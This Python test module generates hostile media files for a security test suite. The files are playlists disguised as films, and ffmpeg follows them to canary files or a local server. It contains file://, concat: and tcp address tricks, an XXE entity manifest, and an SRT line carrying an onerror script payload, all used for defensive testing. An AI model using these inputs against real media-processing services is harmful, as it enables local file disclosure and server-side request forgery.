"""Lists of addresses that pretend to be a film: read one, and ffmpeg opens others."""

import struct
from collections.abc import Iterator

from tests.hostile.workshop import Hostile, Workshop, encoded, jpeg, with_file
from tests.hostile.writing import avi, avi_stream, chunk, ebml_head, element, mkv, mkv_block

FAMILY = "playlist"

# What a list may name, by the ways that ffmpeg knows to open something.
ADDRESSES = {
    "web": "{web}",
    "file": "file://{canary}",
    "path": "{canary}",
    "beside": "canary.ts",
    "concat": "concat:{canary}|{web}",
    "subfile": "subfile,,start,0,end,376,,:{canary}",
    "crypto": "crypto:{canary}",
    "cache": "cache:{web}",
    "tcp": "tcp://127.0.0.1:{port}",
    "data": "data:video/mp2t;base64,R0RQ",
}
LISTS = {
    "hls": "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\n{}\n#EXT-X-ENDLIST\n",
    "hls-master": '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1,CODECS="avc1"\n{}\n',
    "hls-key": '#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-KEY:METHOD=AES-128,URI="{}"\n'
    "#EXTINF:2,\ncanary.ts\n#EXT-X-ENDLIST\n",
    "hls-map": '#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-MAP:URI="{}"\n#EXTINF:2,\n{}\n',
    "concat": "ffconcat version 1.0\nfile '{}'\nduration 2\n",
    "concat-options": "ffconcat version 1.0\nfile '{}'\noption protocol_whitelist file,http,tcp\n",
    "dash": '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="a" bandwidth="1"><BaseURL>{}</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>\n",
    "dash-bare": "<MPD><Period><BaseURL>{}</BaseURL></Period></MPD>\n",
    "dash-entity": '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "{}">]>'
    "<MPD><Period><BaseURL>&x;</BaseURL></Period></MPD>\n",
    "imf": '<?xml version="1.0"?><AssetMap><AssetList><Asset><Path>{}</Path></Asset></AssetList>'
    "</AssetMap>\n",
    "sdp": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=a\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
    "a=control:{}\r\nm=video 5004 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
    "rtsp": "RTSPtext\r\nrtsp://127.0.0.1/{}\r\n",
    "m3u": "{}\n",
    "pls": "[playlist]\nFile1={}\nNumberOfEntries=1\n",
    "asx": '<asx version="3.0"><entry><ref href="{}"/></entry></asx>\n',
    "smil": '<smil><body><video src="{}"/></body></smil>\n',
    "xspf": '<?xml version="1.0"?><playlist><trackList><track><location>{}</location></track>'
    "</trackList></playlist>\n",
    "smooth": '<?xml version="1.0"?><SmoothStreamingMedia><StreamIndex Url="{}"/>'
    "</SmoothStreamingMedia>\n",
    "metadata": ";FFMETADATA1\ntitle={}\n",
    "avisynth": 'DirectShowSource("{}")\n',
    "vapoursynth": 'import vapoursynth as vs\nvs.core.ffms2.Source("{}").set_output()\n',
    "lavfi": "movie={}[out0]\n",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="{}"/></svg>\n',
}
# What may stand in front of a list so that it looks like a film.
DISGUISES = {
    "bom": b"\xef\xbb\xbf",
    "blank-lines": b"\r\n\t \n",
    "ftyp": b"\0\0\0\x18ftypisom\0\0\2\0isommp42",
    "free-box": b"\0\0\0\x09free\n",
    "endless-box": b"\0\0\0\0free\n",
    "ebml": b"\x1a\x45\xdf\xa3\n",
    "whole-ebml": ebml_head(),
    "flv": b"FLV\x01\x05\0\0\0\x09\0\0\0\0",
    "riff": b"RIFF\xff\xff\xff\x7fAVI ",
    "sync-bytes": (b"\x47" + b"\0" * 187) * 3,
    "comment": b"<!-- \x47 -->",
}


def written(text: str, address: str, shop: Workshop) -> bytes:
    named = address.format(web=shop.web, canary=shop.canary, port=shop.port)
    return text.replace("{}", named).encode()


def files() -> Iterator[Hostile]:
    for name, address in ADDRESSES.items():
        yield _list("hls", name, address)
        if name != "web":
            yield _list("concat", name, address)
    for name in LISTS:
        if name not in {"hls", "concat"}:
            yield _list(name, "web", ADDRESSES["web"])
            yield _list(name, "path", ADDRESSES["path"])
    for disguise, head in DISGUISES.items():
        for name in ("hls", "concat"):
            yield Hostile(
                f"{name}-behind-{disguise}",
                FAMILY,
                lambda shop, name=name, head=head: (
                    head + written(LISTS[name], ADDRESSES["path"], shop)
                ),
            )
    for name, payload in SUBTITLES.items():
        yield Hostile(
            f"gab2-{name}",
            "subtitles in AVI",
            lambda shop, payload=payload: _gab2(payload(shop)),
        )
    for name in ("hls", "concat"):
        yield Hostile(f"{name}-attached", "attachment", lambda s, n=name: _attached(n, s))
    yield Hostile("hls-in-a-block", FAMILY, _hls_as_pictures)
    yield Hostile("hls-after-a-film", FAMILY, lambda s: encoded("mp4") + _hls(s))
    yield Hostile("hls-in-metadata", FAMILY, _hls_as_title)


def _list(name: str, to: str, address: str) -> Hostile:
    return Hostile(f"{name}-to-{to}", FAMILY, lambda s: written(LISTS[name], address, s))


def _hls(shop: Workshop) -> bytes:
    return written(LISTS["hls"], ADDRESSES["path"], shop)


def _attached(name: str, shop: Workshop) -> bytes:
    content = written(LISTS[name], ADDRESSES["path"], shop)
    options = "-map 0 -c copy -attach {} -metadata:s:t mimetype=application/vnd.apple.mpegurl"
    return with_file(options, f"{name}.m3u8", content)


def _hls_as_pictures(shop: Workshop) -> bytes:
    return mkv([mkv_block(_hls(shop), time * 100) for time in range(20)])


def _hls_as_title(shop: Workshop) -> bytes:
    title = element(0x7BA9, _hls(shop))
    return mkv([mkv_block(jpeg(), time * 100) for time in range(20)], info=title)


# -- subtitles in AVI: ffmpeg opens them with a demuxer of their own ----------------------------


def xbin(shop: Workshop) -> bytes:
    """A text picture that, once shown, would carry what a list read into the film."""
    return b"XBIN\x1a" + struct.pack("<HHBB", 80, 1, 16, 0) + shop.canary.encode().ljust(160)


SUBTITLES = {
    "hls": _hls,
    "hls-with-xbin": lambda shop: _hls(shop) + xbin(shop),
    "xbin": xbin,
    "concat": lambda shop: written(LISTS["concat"], ADDRESSES["path"], shop),
    "dash": lambda shop: written(LISTS["dash"], ADDRESSES["web"], shop),
    "sdp": lambda shop: written(LISTS["sdp"], ADDRESSES["web"], shop),
    "srt": lambda shop: b"1\n00:00:00,000 --> 00:00:02,000\n<img src=x onerror=alert(1)>\n",
    "ass": lambda shop: (
        b"[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:02.00,,,,0,0,0,,{\\fncanary}x\n"
    ),
    "endless": lambda shop: b"#EXTM3U\n" + b"#EXTINF:1,\ncanary.ts\n" * 5000,
}


def _gab2(payload: bytes) -> bytes:
    name = "captions".encode("utf-16-le")
    packet = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name
    packet += struct.pack("<HI", 4, len(payload)) + payload
    captions = avi_stream(b"txts", b"\0\0\0\0", chunk(b"strf", b""))
    pictures = [chunk(b"00dc", jpeg()) for _ in range(20)]
    return avi([chunk(b"01tx", packet), *pictures], more_streams=[captions])
